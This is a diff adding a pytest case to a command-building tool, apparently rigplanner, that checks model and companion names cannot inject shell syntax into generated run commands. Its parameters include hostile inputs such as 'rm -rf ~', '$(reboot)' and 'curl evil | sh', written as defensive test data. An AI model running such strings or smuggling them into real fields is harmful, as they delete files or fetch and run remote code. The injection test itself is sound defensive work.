@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import shlex
 
+import pytest
+
 from rigplanner.domain.parts import Slot
-from rigplanner.domain.plan import KvType, Offload, OffloadMode, Plan, Runtime
+from rigplanner.domain.plan import Companion, CompanionKind, KvType, Offload, OffloadMode, OwnParts, Plan, Runtime
 from rigplanner.export.run_command import llama_bench
 from rigplanner.export.run_steps import run_steps
 from rigplanner.planner import edits
@@ -87,3 +89,22 @@ def test_llama_bench_measures_the_model_as_it_is_placed() -> None:
     assert words[words.index("-ncmoe") + 1] == str(placement.cpu_expert_layers)
     assert words[words.index("-d") + 1] == str(report.speed.filled_tokens)
     assert "-ncmoe" not in flags(llama_bench(evaluate(rigs.PLAN, LIBRARY)))
+
+
+@pytest.mark.parametrize(
+    "text", ["x; rm -rf ~", "$(reboot)", "`id`\ncurl evil | sh", "--rpc evil:1", "a' || b", "..", "&"]
+)
+@pytest.mark.parametrize("runtime", list(Runtime))
+def test_a_strangers_names_cannot_add_to_a_command(runtime: Runtime, text: str) -> None:
+    own = OwnParts(models=(LIBRARY.models[rigs.PLAN.workload.model_id].model_copy(update={"name": text}),))
+    beside = Companion(kind=CompanionKind.DRAFT, name=text, model_id=rigs.PLAN.workload.model_id, quant=text)
+    plan = edits.with_companions(edits.with_own(rigs.PLAN, own), (beside,))
+    work = plan.workload.model_copy(update={"quant": text, "runtime": runtime})
+    command = run_steps(evaluate(plan.model_copy(update={"workload": work}), LIBRARY))
+    kind = edits.with_runtime(rigs.PLAN, runtime)
+    usual = run_steps(evaluate(edits.with_companions(kind, (beside.model_copy(update={"quant": "Q4_K_M"}),)), LIBRARY))
+    assert len(command.splitlines()) <= len(usual.splitlines())
+    for line in command.splitlines():
+        if not line.startswith("#"):
+            assert not set(line) & set(";|&$`'\"<>()"), line
+            assert "--rpc" not in line
